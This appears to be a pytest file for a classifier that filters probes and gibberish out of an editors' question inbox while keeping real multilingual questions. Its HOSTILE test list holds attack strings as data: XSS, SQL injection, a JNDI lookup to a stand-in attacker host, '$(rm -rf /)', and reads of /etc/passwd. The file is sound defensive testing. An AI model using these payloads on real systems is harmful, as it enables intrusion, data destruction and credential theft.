"""knowledge_base.noise: probes and random text stay out of the editors' inbox; real questions never do."""
from __future__ import annotations

import json
import random
import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from knowledge_base.noise import is_noise

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
    "' OR '1'='1", "1; DROP TABLE kb_entries; --", "admin'--", "SELECT * FROM users WHERE id = 1",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(rm -rf /)", "`cat /etc/passwd`", "../../../../etc/passwd",
    "%00%2e%2e%2f", "\\x41\\x42", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "!!!!!!!!", "12345 67890 !!! ???", "{}[]<>|\\~^",
    "UNION SELECT password FROM kb_users", "<!--#exec cmd=\"ls\"-->", "𐀀𐀁\ue000\ue001", "qwrtpsdfghjklzxcvbnm",
    "AbCdEfGhIjKlMnOp", "zxcvbnmasdfghjkl qwrtypsdf", "x", "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_probes_markup_and_random_characters_are_noise(text):
    assert is_noise(text)


@pytest.mark.parametrize("text", ["Vietnam y Brasil celebran el 35º aniversario de sus relaciones. ¿Cómo lo valora?",
                                  "¿Qué resultados tuvo la 1ª visita del presidente?"])
def test_spanish_ordinal_indicators_are_not_odd_signs(text):
    assert not is_noise(text)


@pytest.mark.parametrize("text", ["Will Viet Nam take the [disputed] islands case to a tribunal?",
                                  "آیا ویتنام در [جزایر] پاراسل به راه حلهای قانونی متوسل شود؟"])
def test_an_editorial_insertion_in_brackets_is_not_code(text):
    # a journalist's question quoted with the editor's words in square brackets (a real Persian one in eval/real)
    assert not is_noise(text)


@pytest.mark.parametrize("text", ["a[0] = b[1]", "x=[1, 2]", "arr[i]{x}", "[a] {b}"])
def test_brackets_in_code_are_still_noise(text):
    assert is_noise(text)


def test_no_real_question_is_noise():
    # every question real people wrote (eval/real, nine languages and others) and every team question
    real = [json.loads(line)["question"] for line in (ROOT / "eval/real/questions.jsonl").open(encoding="utf-8")]
    own = [json.loads(line)["q"] for f in sorted((ROOT / "eval/questions").glob("*.jsonl"))
           for line in f.open(encoding="utf-8")]
    flagged = [q for q in real + own if is_noise(q)]
    # one team question is homework with a formula ("x^2"): out of scope, and not inbox material either
    assert flagged == ["solve my calculus homework: integral of x^2"], flagged


@pytest.mark.parametrize("text", ["gëSK5dûÂ", "ÚMôÒ", "WíÏqcV", "kÝì\\", "source_publisher", "/session_start",
                                  "chat unavailable: %s", "admin/site_edit.html", "몴FÕJ-", "뷁똠", "+ÌtþìêK", "VA_REDIS_HOST",
                                  "a=b", "x=1", "1+1=2", "name=value&x=y", "a|b", "cat x|grep y"])
def test_case_chaos_identifiers_and_commands_are_noise(text):
    # what fuzzing the real stack still put in the inbox (tests/scaled/test_scaled_fuzz.py): an accented capital
    # straight after a small letter, names and commands from code
    assert is_noise(text)


@pytest.mark.parametrize("text", ["iPhone eSIM in Vietnam?", "GmbH gründen?", "app for iOS?", "TTĐT có thời hạn bao lâu?", "꽌호 축제?", "Événements à Hanoï en été?", "Übergrößen in Hội An?",
                                  "ĐI DU LỊCH NƯỚC NGOÀI THÌ TIỀN MANG THEO CÓ BỊ GIỚI HẠN KHÔNG", "McDonald's in Hanoi?", "Visa 45 ngày từ 15/8/2025?",
                                  "30°C in Saigon im April?", "¿Cuánto cuesta el e-visa?", "Kosten: 25 $ oder 50 $?",
                                  "ベトナムの祝日は?", "签证?", "Fluggenehmigungspflicht für Drohnen?",
                                  "베트남의 추석=쭝투, 한국과 다른 점은?", "Tết=Lunar New Year?",
                                  # a page title's parts, as guides write them (a pipe between spaces, or full-width)
                                  "Visa Vietnam | Wie lange dauert das E-Visum?", "ベトナム入国｜必要な書類は?"])
def test_ordinary_questions_with_numbers_signs_and_brands_are_not(text):
    assert not is_noise(text)


@settings(max_examples=3, suppress_health_check=list(HealthCheck), database=None, derandomize=True, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=120), min_size=400, max_size=400))
def test_most_generated_strings_are_noise(texts):
    from webchat.chat import _clean

    cleaned = [c for c in (_clean(t) for t in texts) if c]
    flagged = sum(is_noise(c) for c in cleaned)
    assert flagged >= 0.8 * len(cleaned), (flagged, len(cleaned))


def test_random_letters_mostly_are_noise():
    rnd = random.Random(7)
    texts = ["".join(rnd.choice(string.ascii_letters + string.punctuation) for _ in range(rnd.randint(8, 60)))
             for _ in range(500)]
    assert sum(is_noise(t) for t in texts) >= 0.9 * len(texts)
